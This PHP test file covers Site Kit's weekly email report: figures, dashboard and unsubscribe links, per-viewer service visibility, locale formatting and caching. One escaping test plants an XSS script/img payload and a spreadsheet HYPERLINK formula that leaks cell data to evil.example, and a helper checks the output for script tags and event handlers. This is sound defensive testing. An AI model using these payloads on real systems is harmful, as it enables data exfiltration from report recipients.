<?php
/**
 * Class ReportMailTest
 *
 * @package Google\Site_Kit\Tests\Core\Email_Reports
 */

declare( strict_types=1 );

namespace Google\Site_Kit\Tests\Core\Email_Reports;

use Google\Site_Kit\Core\Email_Reports\Mail_Format;
use Google\Site_Kit\Core\Email_Reports\Report_Mail;
use Google\Site_Kit\Core\User\Key_Metrics;
use Google\Site_Kit\Tests\Support\Emulator;
use Google\Site_Kit\Tests\TestCase;

/**
 * The email report as the recipient reads it, built on the emulator's data: the figures in both parts with links
 * into the dashboard for the period, unsubscribe and settings in the body; nothing of a service the viewer may not
 * see; words for a service without data; strangers' strings escaped; the site's locale; no second Google call.
 */
final class ReportMailTest extends TestCase {

	use Email_Report_Site;

	private const LINKS = array(
		'unsubscribe' => 'https://example.org/wp-admin/admin-post.php?action=googlesitekit_email_unsubscribe&token=abc.def',
		'dashboard'   => 'https://example.org/wp-admin/admin.php?page=googlesitekit-dashboard',
		'settings'    => 'https://example.org/wp-admin/admin.php?page=googlesitekit-settings#admin-settings',
	);

	private int $admin = 0;

	protected function setUp(): void {
		parent::setUp();
		$this->admin = $this->connect_email_report_site();
		$this->set_option( 'blogname', 'Harvest & Hearth' );
	}

	protected function tearDown(): void {
		remove_all_filters( 'locale' );
		$this->disconnect_reporting_site();
		parent::tearDown();
	}

	/**
	 * Last week's report of a viewer, and its mail.
	 *
	 * @param int $viewer The viewer.
	 * @return array{0: array<string, mixed>, 1: array{subject: string, html: string, text: string}}
	 */
	private function mail_of( int $viewer ): array {
		$report = $this->builder()->build_for( $viewer, 'weekly', $this->last_week() );
		$this->assertNotWPError( $report );
		return array( $report, ( new Report_Mail() )->render( $report, self::LINKS ) );
	}

	/**
	 * Asserts the HTML loads nothing and runs nothing.
	 *
	 * @param string $html HTML.
	 */
	private function assertSelfContained( string $html ): void {
		$this->assertStringNotContainsStringIgnoringCase( '<script', $html );
		$this->assertStringNotContainsStringIgnoringCase( '<img', $html );
		$this->assertStringNotContainsStringIgnoringCase( '<link', $html );
		$this->assertStringNotContainsStringIgnoringCase( '@import', $html );
		$this->assertDoesNotMatchRegularExpression( '/\b(src|background)\s*=\s*["\']?https?:/i', $html );
		$this->assertDoesNotMatchRegularExpression( '/url\(\s*["\']?https?:/i', $html );
		$this->assertDoesNotMatchRegularExpression( '/\bon[a-z]+\s*=/i', $html, 'no event handlers' );
	}

	/**
	 * Keeps a mail for a person to open and for the screenshots (artifacts/email/, not committed).
	 *
	 * @param string                $name Its name.
	 * @param array<string, string> $mail The mail.
	 */
	private function keep( string $name, array $mail ): void {
		$folder = dirname( __DIR__, 4 ) . '/artifacts/email';
		wp_mkdir_p( $folder );
		file_put_contents( $folder . '/' . $name . '.html', $mail['html'] ); // phpcs:ignore WordPress.WP.AlternativeFunctions.file_system_operations_file_put_contents
		file_put_contents( $folder . '/' . $name . '.txt', $mail['text'] ); // phpcs:ignore WordPress.WP.AlternativeFunctions.file_system_operations_file_put_contents
	}

	/**
	 * A figure as the dashboard shows it in English (assets/js/util/numbers.ts): 950, 1.3K, 24K, 1.2M; money in full.
	 *
	 * @param float  $value    Value.
	 * @param string $currency Currency code for money, '' for a count.
	 */
	private function as_on_the_dashboard( float $value, string $currency ): string {
		if ( '' !== $currency ) {
			$this->assertSame( 'USD', $currency, 'the emulator’s default account' );
			return '$' . number_format( $value, 2 );
		}
		if ( $value >= 1e6 ) {
			return rtrim( rtrim( number_format( round( $value / 1e6, 1 ), 1 ), '0' ), '.' ) . 'M';
		}
		if ( $value >= 1e4 ) {
			return number_format( round( $value / 1e3 ) ) . 'K';
		}
		if ( $value >= 1e3 ) {
			return rtrim( rtrim( number_format( round( $value / 1e3, 1 ), 1 ), '0' ), '.' ) . 'K';
		}
		return rtrim( rtrim( number_format( round( $value, 1 ), 1 ), '0' ), '.' );
	}

	public function test_the_mail_shows_the_figures_with_links_into_the_dashboard_and_the_unsubscribe_link(): void {
		list( $report, $mail ) = $this->mail_of( $this->admin );
		$week                  = $this->last_week();
		$format                = new Mail_Format( 'en_US' );
		$dates                 = $format->period( $week['start'], $week['end'] );
		$this->assertSame( 'Harvest & Hearth: your weekly Site Kit report, ' . $dates, $mail['subject'] );
		foreach ( $report['figures'] as $figure ) {
			$value = $this->as_on_the_dashboard( (float) $figure['value'], (string) $figure['currency'] );
			$this->assertGreaterThan( 0, $figure['value'], $figure['figure'] );
			$this->assertStringContainsString( htmlspecialchars( $figure['label'] ), $mail['html'], $figure['figure'] );
			$this->assertStringContainsString( $value, $mail['html'], $figure['figure'] );
			$this->assertStringContainsString( $figure['label'] . ': ' . $value, $mail['text'], $figure['figure'] );
		}
		$this->assertStringContainsString( 'Sessions', $mail['text'] );
		$this->assertStringContainsString( 'Earnings', $mail['text'] );
		foreach ( $report['tables'] as $table ) {
			foreach ( $table['rows'] as $row ) {
				$this->assertStringContainsString( htmlspecialchars( $row['name'], ENT_QUOTES | ENT_HTML5 ), $mail['html'] );
				$this->assertStringContainsString( $row['name'], $mail['text'] );
			}
		}
		$range = 'startDate=' . $week['start'] . '&endDate=' . $week['end'] . '&compare=previous-period';
		foreach ( array( 'traffic', 'content' ) as $section ) {
			$url = self::LINKS['dashboard'] . '&' . $range . '#' . $section;
			$this->assertStringContainsString( 'href="' . esc_url( $url ) . '"', $mail['html'], $section );
			$this->assertStringContainsString( $url, $mail['text'], $section );
		}
		$this->assertMatchesRegularExpression( '#<a [^>]*href="' . preg_quote( esc_url( self::LINKS['unsubscribe'] ), '#' ) . '"[^>]*>Unsubscribe</a>#', $mail['html'] );
		$this->assertStringContainsString( 'Unsubscribe: ' . self::LINKS['unsubscribe'], $mail['text'] );
		$this->assertStringContainsString( 'href="' . esc_url( self::LINKS['settings'] ) . '"', $mail['html'] );
		$this->assertStringContainsString( '<meta name="color-scheme" content="light dark">', $mail['html'] );
		$this->assertStringContainsString( 'max-width:600px', $mail['html'] );
		$this->assertSelfContained( $mail['html'] );
		$this->assertStringNotContainsString( 'Your key metrics', $mail['text'], 'no tiles chosen' );

		$this->keep( 'report', $mail );
	}

	public function test_the_viewers_chosen_key_metrics_are_in_it(): void {
		$this->assertNotWPError( ( new Key_Metrics( $this->plugin()->modules() ) )->set( $this->admin, array( 'kmAnalyticsNewVisitors', 'kmAnalyticsTopCountries', 'kmSearchConsolePopularKeywords', 'kmAdSenseTopEarningContent' ) ) );
		list( $report, $mail ) = $this->mail_of( $this->admin );
		$this->assertSame( array( 'kmAnalyticsNewVisitors', 'kmAnalyticsTopCountries', 'kmSearchConsolePopularKeywords', 'kmAdSenseTopEarningContent' ), array_column( $report['key_metrics'], 'tile' ) );
		$this->assertStringContainsString( 'Your key metrics', $mail['text'] );
		foreach ( $report['key_metrics'] as $tile ) {
			$this->assertSame( 'ok', $tile['status'], $tile['tile'] );
			$this->assertStringContainsString( '- ' . $tile['title'] . ':', $mail['text'] );
			$this->assertStringContainsString( htmlspecialchars( $tile['title'], ENT_QUOTES | ENT_HTML5 ), $mail['html'] );
		}
		$this->assertStringContainsString( '#key-metrics', $mail['text'] );
		$this->keep( 'key-metrics', $mail );
	}

	public function test_a_view_only_editor_gets_only_the_shared_service_and_no_trace_of_the_others(): void {
		update_option(
			'googlesitekit_dashboard_sharing',
			array(
				'search-console' => array(
					'sharedRoles' => array( 'editor' ),
					'management'  => 'owner',
				),
			)
		);
		$editor = $this->login_as( 'editor' )->ID;
		$tiles  = array( 'kmAnalyticsNewVisitors', 'kmSearchConsolePopularKeywords' );
		$this->assertNotWPError( ( new Key_Metrics( $this->plugin()->modules() ) )->set( $editor, $tiles ) );
		$this->assertNotWPError( ( new Key_Metrics( $this->plugin()->modules() ) )->set( $this->admin, $tiles ) );
		$this->mail_of( $this->admin );
		Emulator::control( 'DELETE', '/requests' );
		$this->assertSame( array( 'search-console' ), $this->builder()->services( $editor ) );
		$this->assertSame( array( 'search-console', 'analytics', 'adsense' ), $this->builder()->services( $this->admin ) );
		$this->assertSame( $editor, get_current_user_id(), 'the current user is restored' );

		list( $report, $mail ) = $this->mail_of( $editor );
		$this->assertSame( $editor, get_current_user_id() );
		$this->assertSame( array( 'search-console' ), array_column( $report['services'], 'service' ) );
		$this->assertSame( array( 'impressions', 'clicks' ), array_column( $report['figures'], 'figure' ) );
		$this->assertSame( array( 'top-queries' ), array_column( $report['tables'], 'id' ) );
		$this->assertSame( array( 'kmSearchConsolePopularKeywords' ), array_column( $report['key_metrics'], 'tile' ), 'the Analytics tile they chose is not theirs to see' );
		$this->assertSame( array(), $this->google_calls(), 'the admin’s report already read what the editor sees' );
		foreach ( array( 'Analytics', 'AdSense', 'Sessions', 'Unique visitors', 'New visitors', 'Views', 'Earnings', 'Top pages', 'Pages with', 'Pages that', '#content' ) as $trace ) {
			$this->assertStringNotContainsString( $trace, $mail['html'], $trace );
			$this->assertStringNotContainsString( $trace, $mail['text'], $trace );
		}
		$this->assertStringContainsString( 'Top search queries', $mail['text'] );
	}

	public function test_a_service_without_data_yet_says_so_in_words(): void {
		Emulator::control( 'POST', '/scenario', array( 'name' => 'new-site' ) );
		list( $report, $mail ) = $this->mail_of( $this->admin );
		$this->assertSame( array( 'no-data', 'no-data', 'no-data' ), array_column( $report['services'], 'status' ) );
		$this->keep( 'no-data', $mail );
		foreach ( array( 'Search Console', 'Analytics', 'AdSense' ) as $name ) {
			$words = $name . ' has no data for this period yet: it is still gathering data.';
			$this->assertStringContainsString( $words, $mail['html'] );
			$this->assertStringContainsString( '- ' . $words, $mail['text'] );
		}
		$this->assertSame( array(), $report['figures'] );
		$this->assertStringContainsString( 'Unsubscribe', $mail['text'] );
	}

	public function test_strangers_page_titles_and_queries_are_escaped(): void {
		$report = $this->builder()->build_for( $this->admin, 'weekly', $this->last_week() );
		$evil   = array(
			'page'  => '<script>alert("title")</script><img src="https://evil.example/x.png">',
			'query' => '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
		);
		foreach ( $report['tables'] as &$table ) {
			$table['rows'][0]['name'] = 'top-queries' === $table['id'] ? $evil['query'] : $evil['page'];
		}
		unset( $table );
		$mail = ( new Report_Mail() )->render( $report, self::LINKS );
		$this->assertSelfContained( $mail['html'] );
		$this->assertStringContainsString( '&lt;script&gt;alert(&quot;title&quot;)&lt;/script&gt;&lt;img src=&quot;https://evil.example/x.png&quot;&gt;', $mail['html'] );
		$this->assertStringContainsString( '=HYPERLINK(&quot;https://evil.example/?leak=&quot;&amp;A1,&quot;click&quot;)', $mail['html'] );
		$this->assertStringNotContainsString( 'href="https://evil.example', $mail['html'] );
		$this->assertStringContainsString( $evil['query'], $mail['text'], 'plain text shows it as it is' );
	}

	public function test_numbers_dates_and_money_follow_the_sites_locale(): void {
		add_filter( 'locale', static fn() => 'de_DE' );
		list( $report, $mail ) = $this->mail_of( $this->admin );
		$this->assertSame( 'de_DE', $report['locale'] );
		$figures = array_column( $report['figures'], null, 'figure' );
		$this->assertMatchesRegularExpression( '/^- Unique visitors: \d+K \([▲▼] \d+,\d+[\x{00A0}\x{202F}]?% vs previous period\)$/mu', $mail['text'], 'a decimal comma in the change' );
		$money = ( new \NumberFormatter( 'de_DE', \NumberFormatter::CURRENCY ) )->formatCurrency( $figures['earnings']['value'], $figures['earnings']['currency'] );
		$this->assertMatchesRegularExpression( '/^[\d.]+,\d\d\x{00A0}\S+$/u', $money, 'amount, comma, two decimals, then the currency' );
		$this->assertStringContainsString( $money, $mail['text'] );
		$day = ( new \IntlDateFormatter( 'de_DE', \IntlDateFormatter::MEDIUM, \IntlDateFormatter::NONE, 'UTC' ) )->format( strtotime( $report['period']['start'] . ' 12:00 UTC' ) );
		$this->assertMatchesRegularExpression( '/^\d\d\.\d\d\.\d{4}$/', $day );
		$this->assertStringContainsString( $day, $mail['subject'] );
		$this->assertStringContainsString( 'lang="de-DE"', $mail['html'] );
		$this->keep( 'de-DE', $mail );
	}

	public function test_building_the_same_report_twice_asks_google_nothing_the_second_time(): void {
		$first = $this->builder()->build_for( $this->admin, 'weekly', $this->last_week() );
		$this->assertNotEmpty( $this->google_calls(), 'the first build read Google' );
		Emulator::control( 'DELETE', '/requests' );
		$second = $this->builder()->build_for( $this->admin, 'weekly', $this->last_week() );
		$this->assertSame( array(), $this->google_calls() );
		unset( $first['built'], $second['built'] );
		$this->assertSame( $first, $second );
	}
}
